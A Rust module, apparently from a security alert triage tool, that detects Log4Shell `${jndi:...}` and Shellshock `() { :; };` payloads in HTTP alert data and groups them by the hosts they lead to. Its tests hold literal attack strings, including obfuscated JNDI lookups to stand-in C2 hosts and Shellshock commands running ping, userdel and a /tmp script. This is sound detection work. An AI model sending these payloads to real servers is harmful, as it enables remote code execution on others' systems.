//! What a request has in it for whoever reads it to run.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use serde_json::Value;

use super::mask::{GUID, bounded, is_guid, same_command};
use super::mention::registrable;
use super::news::{News, first};
use super::temporary;
use crate::url::{self, Host};
use crate::{Alert, path};

/// What was sent in a request for whoever reads it to run: `${jndi:…}`, `() { :; };`. Else a header says who asks, and not what for; bodies
/// and answers have scripts of their own.
pub(super) fn payloads(data: &Value) -> Vec<String> {
    let mut payloads = Vec::new();
    path::visit_below("http", path::child(data, "http"), &mut |path, leaf| {
        // A role tells of the first two.
        let is_other = ["http.url", "http.hostname"].contains(&path)
            || ["body", "response"].iter().any(|part| path.contains(part));
        let text = if is_other { None } else { leaf.text(path) };
        if let Some(payload) = text.as_deref().and_then(payload) {
            payloads.push(format!("{path} {}", same_payload(&payload)));
        }
    });
    payloads
}

/// Where what a request to a web server wants run leads, whatever it is answered: each address, and of each name the part that somebody has
/// registered, for who looks for holes asks each to call another name below his own.
pub(super) fn led_to(alert: &Alert) -> News {
    let mut places = BTreeSet::new();
    for path in ["data.url", "full_log"] {
        let Some(text) = alert.text(path) else { continue };
        let text = url::decoded(&text);
        // The fields of an access log stand in quotation marks: none tells of another.
        for payload in text.split('"').filter_map(payload) {
            places.extend(url::places(&payload).map(|place| match place {
                Host::Ip(ip) => ip.to_string(),
                Host::Name(name) => registrable(&name).to_owned(),
            }));
        }
    }
    first("payload", places.into_iter())
}

/// The function of a shell that a value is, with what runs behind it, or all `${…}` in it.
fn payload(text: &str) -> Option<Cow<'_, str>> {
    if text.starts_with("() {") {
        return Some(Cow::Borrowed(text));
    }
    let mut payload = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        let mut open = 0_u32;
        let closing = rest[start..].find(|c| {
            match c {
                '{' => open += 1,
                '}' => open -= 1,
                _ => {}
            }
            c == '}' && open == 0
        });
        let end = closing.map_or(rest.len(), |end| start + end + 1);
        payload.push_str(&rest[start..end]);
        rest = &rest[end..];
    }
    (!payload.is_empty()).then_some(Cow::Owned(payload))
}

/// A payload as [`same_command`], and the machines and ports it leads to with their numbers.
fn same_payload(payload: &str) -> String {
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | ':' | '-' | '_');
    bounded(payload, |payload| {
        let lower = temporary::without_names(&payload.to_lowercase());
        let places = lower.split(|c| !is_part(c)).filter_map(same_place);
        let places = places.collect::<Vec<_>>().join(" ");
        format!("{} {places}", same_command(payload))
    })
}

/// A machine and a port without what was made up for a request: who looks for holes asks each to call another number below his own name.
fn same_place(place: &str) -> Option<String> {
    let (host, port) = place.split_at(place.find(':').unwrap_or(place.len()));
    if host.parse::<Ipv4Addr>().is_ok() {
        return Some(place.to_owned());
    }
    // `localhost:1389`, and behind the brackets of an address.
    let digits = port.strip_prefix(':').unwrap_or_default();
    let is_port = (1..=5).contains(&digits.len()) && digits.bytes().all(|byte| byte.is_ascii_digit());
    if is_port && !host.contains('.') {
        return Some(place.to_owned());
    }
    let is_name = place.contains('.') && place.contains(|c: char| c.is_ascii_alphabetic());
    let same_label = |label: &str| {
        let is_number = !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_digit());
        let is_made_up = is_number || (label.len() == GUID && is_guid(label));
        if is_made_up { "#".to_owned() } else { label.to_owned() }
    };
    is_name.then(|| host.split('.').map(same_label).collect::<Vec<_>>().join(".") + port)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_payload_is_told_by_where_it_leads_and_not_by_what_was_made_up_for_one_request() {
        let same = |text: &str| same_payload(&payload(text).unwrap());
        for (one, other) in [
            ("${jndi:ldap://c2-01.example/a}", "${jndi:ldap://c2-02.example/a}"),
            ("${jndi:ldap://203.0.113.9:1389/a}", "${jndi:ldap://203.0.113.9:4444/a}"),
            ("${jndi:dns:web-1.example}", "${jndi:dns:web-2.example}"),
            ("${jndi:ldap://localhost:1389/a}", "${jndi:ldap://localhost:4444/a}"),
            (
                "${jndi:ldap://[2001:db8::1]:1389/a}",
                "${jndi:ldap://[2001:db8::1]:4444/a}",
            ),
            (
                "${j${::-n}di:l${x}p${::-:}//c2-01.example/a}",
                "${j${::-n}di:l${x}p${::-:}//c2-02.example/a}",
            ),
            ("${jndi:ldap://q8zt1xkp.example/a}", "${jndi:ldap://m2wr7ylb.example/a}"),
            (
                "() { :; }; ping -c 1 c2-01.example",
                "() { :; }; ping -c 1 c2-02.example",
            ),
            ("() { :; }; userdel 4711", "() { :; }; userdel 4712"),
            (
                "${jndi:rmi://a.example/Basic/d2hvYW1p}",
                "${jndi:rmi://a.example/Basic/aWQ7dW5h}",
            ),
        ] {
            assert_ne!(same(one), same(other), "{one}");
        }
        for (one, other) in [
            (
                "${jndi:ldap://203.0.113.9:1389/3f9a1c0d}",
                "${jndi:ldap://203.0.113.9:1389/a17e00b2}",
            ),
            ("${jndi:ldap://c2-01.example/4711}", "${jndi:ldap://c2-01.example/17}"),
            (
                "${jndi:dns://5770385f-c22a-43e0-bf4c-06f5698ffbd9/a}",
                "${jndi:dns://11111111-aaaa-43e0-bf4c-06f5698ffbd9/a}",
            ),
            ("() { :; }; sh /tmp/aaaq.sh", "() { :; }; sh /tmp/bbbq.sh"),
        ] {
            assert_eq!(same(one), same(other), "{one}");
        }
    }
}
